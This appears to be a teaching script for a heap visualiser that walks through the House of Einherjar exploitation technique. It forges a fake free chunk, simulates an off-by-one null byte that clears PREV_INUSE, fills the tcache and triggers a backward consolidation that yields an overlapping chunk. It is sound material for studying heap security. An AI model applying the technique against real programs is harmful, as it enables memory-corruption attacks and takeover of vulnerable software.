# house-of-einherjar.hs - attack: a null byte off by one clears P; free merges back into a fake chunk.
title "Attack: house of einherjar"
a = malloc(0x38)
say "Forge a free chunk inside a: size 0x60, and fd and bk pointing to itself pass unlink's check."
*(a) = 0
*(a + 8) = 0x60
*(a + 0x10) = a
*(a + 0x18) = a
b = malloc(0x28)
c = malloc(0xf8)
t1 = malloc(0xf8)
t2 = malloc(0xf8)
t3 = malloc(0xf8)
t4 = malloc(0xf8)
t5 = malloc(0xf8)
t6 = malloc(0xf8)
t7 = malloc(0xf8)
say "An off-by-one from b writes c's prev_size (0x60) and a null byte over its size: 0x101 becomes 0x100."
*(c - 0x10) = 0x60
*(c - 8) = 0x100
free(t1)
free(t2)
free(t3)
free(t4)
free(t5)
free(t6)
free(t7)
free(c)
pause "Tcache bin 0x100 was full: free(c) merged backwards with the fake chunk (0x60 + 0x100)"
x = malloc(0x158)
pause "x is the fake chunk in a, and covers b: the technique worked"
